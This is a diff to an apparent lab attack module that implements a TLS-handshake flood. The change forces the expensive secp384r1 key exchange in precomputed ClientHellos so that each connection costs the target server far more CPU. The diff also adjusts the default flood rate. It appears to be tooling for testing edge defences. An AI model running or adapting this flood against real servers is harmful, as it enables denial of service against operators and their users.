@@ -1,5 +1,8 @@
 """TLS-handshake flood: the edge must sign for each, which costs it far more than the bot's greeting costs the
-bot. Bots greet, wait until the edge has answered with its signature, and leave; or go through with it."""
+bot. Bots greet, wait until the edge has answered with its signature, and leave; or go through with it.
+
+Greetings leave the edge no choice but the dearest group for the exchange of keys that servers take by
+themselves. The bots made their part of it beforehand."""
 
 from __future__ import annotations
 
@@ -11,6 +14,8 @@ from rempart.lab.attacks.dialling import Dialler, DialParameters, Manner
 from rempart.lab.attacks.reporting import Tally, own_sender, run_sender
 from rempart.lab.clients.connecting import careless_tls
 
+GROUP = "secp384r1"
+"""RFC 8446 section 4.2.7. OpenSSL 3.0 works some 1.2 ms on a server's part, twenty times X25519's."""
 GREETINGS = 64
 """Greetings are made beforehand; each is sent with a random number and a session of its own."""
 HANDSHAKE = b"\x16\x03"
@@ -30,7 +35,7 @@ TLS_HANDSHAKE_FLOOD = Attack(
     name="tls-handshake-flood",
     unit=Unit.CONNECTIONS,
     summary="TLS handshakes left off when the edge has signed, from tens of thousands of addresses",
-    defaults=TlsHandshakeFlood(rate=6_000, sources=Sources.PREFIXES, v6_share=0.2, hold_s=0),
+    defaults=TlsHandshakeFlood(rate=2_500, sources=Sources.PREFIXES, v6_share=0.2, hold_s=0),
     sender=lambda order: own_sender(order, "tls_handshake_flood"),
 )
 
@@ -38,7 +43,9 @@ TLS_HANDSHAKE_FLOOD = Attack(
 def greeting(host: str) -> bytes:
     """A ClientHello for a host (RFC 8446 section 4.1.2), as OpenSSL sends it."""
     arriving, leaving = ssl.MemoryBIO(), ssl.MemoryBIO()
-    client = careless_tls("h2", "http/1.1").wrap_bio(arriving, leaving, server_hostname=host)
+    context = careless_tls("h2", "http/1.1")
+    context.set_ecdh_curve(GROUP)
+    client = context.wrap_bio(arriving, leaving, server_hostname=host)
     try:
         client.do_handshake()
     except ssl.SSLWantReadError:
